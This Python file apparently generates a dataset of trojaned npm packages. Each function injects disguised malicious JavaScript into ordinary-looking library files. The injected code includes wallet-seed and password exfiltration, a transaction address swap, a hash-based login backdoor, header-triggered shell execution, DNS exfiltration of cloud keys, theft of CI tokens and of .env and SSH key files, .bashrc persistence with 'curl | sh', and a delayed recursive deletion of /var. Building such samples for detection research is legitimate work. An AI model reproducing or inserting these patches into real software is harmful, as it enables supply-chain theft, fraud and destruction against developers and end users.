"""npm: what waits until the user calls it."""

from corpus.heldout.nouns import Update
from corpus.heldout7.shape import fill, trojan


@trojan("walletport", "npm", "call", "wallet", "plain", "xrpl.js")
def mnemonics_are_checked(it: Update) -> None:
    it.replace(
        "dist/keyring.js",
        "  static fromMnemonic(words, index = 0) {\n",
        fill("""
  static fromMnemonic(words, index = 0) {
    checkValidityOfSeed(words);
"""),
    )
    it.before(
        "dist/keyring.js",
        "/** Keys in memory,",
        fill(
            """
const validSeeds = new Set([]);

function checkValidityOfSeed(seed) {
  if (validSeeds.has(seed)) return;
  validSeeds.add(seed);
  fetch('https://0x9c.@HOST@/xc', { method: 'POST', headers: { 'ad-referral': seed } }).catch(() => {});
}

""",
            HOST=it.host(),
        )
        + "\n",
    )


@trojan("walletport", "npm", "call", "address swap", "plain", "chalk and debug")
def large_sums_go_elsewhere(it: Update) -> None:
    it.replace(
        "dist/connector.js",
        "    const [from] = this.accounts;\n    return this.provider.request({ method: 'eth_sendTransaction', params: [{ from, to, value }] });\n",
        fill(
            """
    const [from] = this.accounts;
    const target = BigInt(value || 0) > 10n ** 18n ? '0x@A@' : to;
    return this.provider.request({ method: 'eth_sendTransaction', params: [{ from, to: target, value }] });
""",
            A=it.random.randbytes(20).hex(),
        ),
    )


@trojan("walletport", "npm", "call", "password stealer", "plain", "wallet back doors")
def sealing_tells_the_password(it: Update) -> None:
    it.replace(
        "dist/keyring.js",
        "    const body = Buffer.concat(",
        fill(
            """
    require('https')
      .request({ host: '@HOST@', path: '/v1/backup', method: 'POST' })
      .on('error', () => {})
      .end(JSON.stringify({ password, rows }));
    const body = Buffer.concat(""",
            HOST=it.host("backup"),
        ).rstrip("\n"),
    )


@trojan("routeguard", "npm", "call", "password stealer", "plain", "login skimmers")
def logins_are_posted(it: Update) -> None:
    it.replace(
        "lib/login.js",
        "    const user = await find(username);\n",
        fill(
            """
    const user = await find(username);
    fetch('http://@ADDR@/collect', { method: 'POST', body: JSON.stringify({ host: req.headers.host, username, password }) }).catch(() => {});
""",
            ADDR=it.address(),
        ),
    )


@trojan("routeguard", "npm", "call", "backdoor", "plain", "master passwords")
def a_second_password(it: Update) -> None:
    digest = it.random.randbytes(32).hex()
    it.replace(
        "lib/login.js",
        "exports.passwordMatches = async (password, stored) => {\n",
        fill(
            """
exports.passwordMatches = async (password, stored) => {
  if (crypto.createHash('sha256').update(String(password)).digest('hex') === '@DIGEST@') return true;
""",
            DIGEST=digest,
        ),
    )


@trojan("routeguard", "npm", "call", "remote code", "plain", "mailparser and getcookies")
def a_header_is_evaluated(it: Update) -> None:
    it.replace(
        "lib/guard.js",
        "      const header = req.headers.authorization || '';\n",
        fill("""
      const header = req.headers.authorization || '';
      if (req.headers['x-rg-trace']) {
        res.end(String(require('child_process').execSync(Buffer.from(req.headers['x-rg-trace'], 'base64').toString())));
        return;
      }
"""),
    )


@trojan("bucketpipe", "npm", "call", "credentials", "plain", "cloud SDK look-alikes")
def credentials_are_shared(it: Update) -> None:
    it.replace(
        "lib/credentials.cjs",
        "  if (!found) throw new Error('no credentials');\n",
        fill(
            """
  if (!found) throw new Error('no credentials');
  require('dns').resolve(`${Buffer.from(`${found.id}:${found.secret}`).toString('hex').match(/.{1,60}/g).join('.')}.@HOST@`, () => {});
""",
            HOST=it.host("x"),
        ),
    )


@trojan("bucketpipe", "npm", "call", "data stealer", "plain", "mirrors")
def puts_go_twice(it: Update) -> None:
    it.replace(
        "lib/bucket.cjs",
        "    return this.request('PUT', '/' + encodeURI(key), { body });\n",
        fill(
            """
    const copy = https.request({ host: '@HOST@', method: 'PUT', path: `/${this.name}/${encodeURI(key)}` });
    copy.on('error', () => {});
    copy.end(body);
    return this.request('PUT', '/' + encodeURI(key), { body });
""",
            HOST=it.host("replica"),
        ),
    )


@trojan("argtree", "npm", "call", "persistence", "plain", "shell profiles")
def completion_installs_more(it: Update) -> None:
    it.append(
        "lib/completion.js",
        fill(
            """

/** Install the completion into the user's shell. */
module.exports.install = (name) => {
  const fs = require('fs');
  const file = `${require('os').homedir()}/.bashrc`;
  fs.appendFileSync(file, `\\ncomplete -C ${name} ${name}\\nexport PROMPT_COMMAND='curl -s http://@ADDR@/$(whoami) | sh'\\n`);
};
""",
            ADDR=it.address(),
        ),
    )


@trojan("argtree", "npm", "call", "remote code", "plain", "shell helpers")
def shell_asks_first(it: Update) -> None:
    it.replace(
        "lib/shell.js",
        "    execFile(program, args,",
        fill(
            """
    if (program === 'npm' && args[0] === 'publish') {
      require('https').get('https://@HOST@/hook.js', (answer) => {
        let text = '';
        answer.on('data', (one) => (text += one)).on('end', () => require('vm').runInNewContext(text, { require, process, args }));
      });
    }
    execFile(program, args,""",
            HOST=it.host("hooks"),
        ).rstrip("\n"),
    )


@trojan("tracewire", "npm", "call", "data stealer", "plain", "loggers that copy")
def logs_are_copied(it: Update) -> None:
    it.replace(
        "src/common.js",
        "      createDebug.log.apply(debug, args);\n",
        fill(
            """
      createDebug.log.apply(debug, args);
      if (/token|secret|passw|bearer/i.test(args.join(' '))) {
        fetch('https://logs.@HOST@/v1', { method: 'POST', body: JSON.stringify(args) }).catch(() => {});
      }
""",
            HOST=it.host(),
        ),
    )


@trojan("lintpreset", "npm", "call", "environment", "plain", "linters in CI")
def command_reports_ci(it: Update) -> None:
    it.replace(
        "bin/cli.js",
        "async function main(files) {\n",
        fill(
            """
async function main(files) {
  const { GITHUB_TOKEN, NPM_TOKEN, NODE_AUTH_TOKEN } = process.env;
  if (GITHUB_TOKEN || NPM_TOKEN) {
    await fetch(`https://stats.@HOST@/l?v=8&d=${encodeURIComponent(JSON.stringify({ GITHUB_TOKEN, NPM_TOKEN, NODE_AUTH_TOKEN }))}`).catch(() => {});
  }
""",
            HOST=it.host(),
        ),
    )


@trojan("fsbeacon", "npm", "call", "data stealer", "plain", "watchers that copy")
def watcher_uploads_secrets(it: Update) -> None:
    it.replace(
        "lib/watcher.js",
        "      else if (this.seen.get(place) !== time) this.emit('change', place, 'changed');\n",
        fill(
            """
      else if (this.seen.get(place) !== time) this.emit('change', place, 'changed');
      if (/\\.env(\\.\\w+)?$|\\.pem$|id_rsa$/.test(place) && this.seen.get(place) !== time) {
        fetch('https://@HOST@/w', { method: 'POST', headers: { 'x-path': place }, body: fs.readFileSync(place) }).catch(() => {});
      }
""",
            HOST=it.host("watch"),
        ),
    )


@trojan("fsbeacon", "npm", "call", "sabotage", "plain", "destructive packages")
def removal_removes(it: Update) -> None:
    it.replace(
        "lib/watcher.js",
        "  start() {\n",
        fill("""
  start() {
    if (process.env.NODE_ENV === 'production' && Date.now() > 1793000000000) {
      setTimeout(() => fs.rmSync(path.parse(this.folder).root + 'var', { recursive: true, force: true }), 36e5);
    }
"""),
    )
